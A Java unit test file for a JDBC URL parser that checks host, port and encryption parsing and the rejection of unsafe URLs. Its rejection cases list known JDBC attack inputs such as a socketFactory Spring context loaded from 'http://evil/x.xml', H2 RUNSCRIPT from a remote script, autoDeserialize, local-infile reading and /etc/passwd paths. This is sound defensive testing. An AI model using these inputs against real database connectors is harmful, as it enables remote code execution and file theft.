package io.millrace.catalog.crawl.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.millrace.catalog.crawl.database.JdbcUrl.Encryption;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TestJdbcUrl {
    @Test
    void takesApart() {
        assertThat(JdbcUrl.parse("jdbc:postgresql://db.example/sales"))
                .isEqualTo(new JdbcUrl(
                        DatabaseProduct.POSTGRESQL, "db.example", 5432, Optional.of("sales"), Encryption.IF_OFFERED));
        assertThat(JdbcUrl.parse("jdbc:mysql://10.0.0.7:3307/a%20b?useSSL=false&serverTimezone=UTC"))
                .isEqualTo(new JdbcUrl(DatabaseProduct.MYSQL, "10.0.0.7", 3307, Optional.of("a b"), Encryption.NONE));
        assertThat(JdbcUrl.parse("jdbc:mariadb://[::1]:3306"))
                .isEqualTo(
                        new JdbcUrl(DatabaseProduct.MARIADB, "[::1]", 3306, Optional.empty(), Encryption.IF_OFFERED));
    }

    @ParameterizedTest
    @CsvSource({
        "sslmode=disable, NONE",
        "sslmode=prefer, IF_OFFERED",
        "ssl=true, REQUIRED",
        "ssl, REQUIRED",
        "sslMode=VERIFY_IDENTITY, VERIFIED",
        "sslmode=verify-ca, VERIFIED",
        "useSSL=true&verifyServerCertificate=true, VERIFIED",
        "useSSL=true&verifyServerCertificate=false, REQUIRED",
        "useSSL=false&requireSSL=true, REQUIRED",
        "sslmode=verify-full&ssl=false, VERIFIED"
    })
    void takesTheStrictestEncryptionThatIsAskedFor(String parameters, Encryption encryption) {
        assertThat(JdbcUrl.parse("jdbc:mysql://h/d?" + parameters).encryption()).isEqualTo(encryption);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil/x.xml",
                "sslfactory=a.B",
                "sslFactory=a.B",
                "authenticationPluginClassName=a.B",
                "loggerFile=/tmp/x",
                "allowLoadLocalInfile=true",
                "allowLocalInfile=true",
                "allowUrlInLocalInfile=true",
                "autoDeserialize=true",
                "queryInterceptors=a.B",
                "statementInterceptors=a.B",
                "credentialType=a",
                "serverRsaPublicKeyFile=/etc/passwd",
                "sslrootcert=/etc/passwd",
                "options=-c%20log_directory",
                "%73ocketFactory=a.B",
                "useSSL=false;socketFactory=a.B",
                "sslmode=whatever",
                "x%0Ay=1"
            })
    void refusesParametersThatAreNotKnownToBeHarmless(String parameter) {
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:mysql://h/d?connectTimeout=5&" + parameter))
                .isInstanceOf(IllegalArgumentException.class)
                .message()
                .doesNotContain("a.B", "/etc", "evil", "\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:oracle:thin:@//h/d",
                "jdbc:postgresql:sales",
                "jdbc:postgresql://h",
                "jdbc:postgresql://a,b/d",
                "jdbc:postgresql://h:0/d",
                "jdbc:postgresql://h:99999/d",
                "jdbc:mysql://user:s3cret@h/d",
                "jdbc:mysql://address=(host=h)(port=3306)/d",
                "jdbc:mysql:loadbalance://h/d",
                "jdbc:mariadb:replication://h/d",
                "jdbc:mysql://h/d;x=y",
                "jdbc:postgresql://h/d%0Ae",
                "jdbc:postgresql://h/d%zz",
                "JDBC:mysql://h/d",
                "",
                "jdbc:mysql://h/d?password=s3cret",
                "jdbc:mysql://h/d?user=root&connectTimeout=1"
            })
    void refusesWhatIsNoUrlOfOneKnownServer(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .message()
                .doesNotContain("s3cret", "evil");
    }
}
